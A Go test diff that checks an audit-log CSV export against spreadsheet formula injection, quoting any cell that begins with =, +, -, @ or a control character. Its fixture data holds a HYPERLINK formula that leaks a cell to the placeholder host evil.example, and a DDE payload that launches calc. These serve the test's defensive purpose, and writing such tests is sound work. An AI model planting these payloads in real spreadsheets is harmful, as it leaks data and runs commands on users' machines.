@@ -157,6 +157,26 @@ func TestAuditExport(t *testing.T) {
 		require.Equal(t, wantA, ids)
 	})
 
+	t.Run("CSVCellsNeverStartAFormula", func(t *testing.T) {
+		// Ids and names come from callers: a spreadsheet must not run them (OWASP CSV injection).
+		later := to.Add(time.Hour)
+		e := record(partnerA, later)
+		_, err := neo4j.ExecuteQuery(context.Background(), s.Driver(), `MATCH (e:AuditEvent {id: $id}) SET e.entityIds = $ids, e.operationName = $name`,
+			map[string]any{"id": e.ID, "ids": []string{`=HYPERLINK("http://evil.example/?leak="&B2,"open")`, "@SUM(1+1)"}, "name": "+cmd|' /C calc'!A0"},
+			neo4j.EagerResultTransformer, neo4j.ExecuteQueryWithDatabase(s.Database()))
+		require.NoError(t, err)
+		res := export(t, "Bearer auditor-a", window("csv", "from", later.Format(time.RFC3339), "to", later.Add(time.Minute).Format(time.RFC3339)))
+		require.Equal(t, http.StatusOK, res.status, "body: %s", res.body)
+		rows, err := csv.NewReader(bytes.NewReader(res.body)).ReadAll()
+		require.NoError(t, err)
+		require.Len(t, rows, 2)
+		for _, cell := range rows[1] {
+			require.NotRegexp(t, `^[=+\-@\t\r]`, cell)
+		}
+		require.Equal(t, `'=HYPERLINK("http://evil.example/?leak="&B2,"open");@SUM(1+1)`, rows[1][8], "the value kept, quoted")
+		require.Equal(t, "'+cmd|' /C calc'!A0", rows[1][5])
+	})
+
 	t.Run("AnAdminExportsAnotherPartner", func(t *testing.T) {
 		res := export(t, "Bearer admin", window("csv", "partner", partnerB))
 		require.Equal(t, http.StatusOK, res.status, "body: %s", res.body)
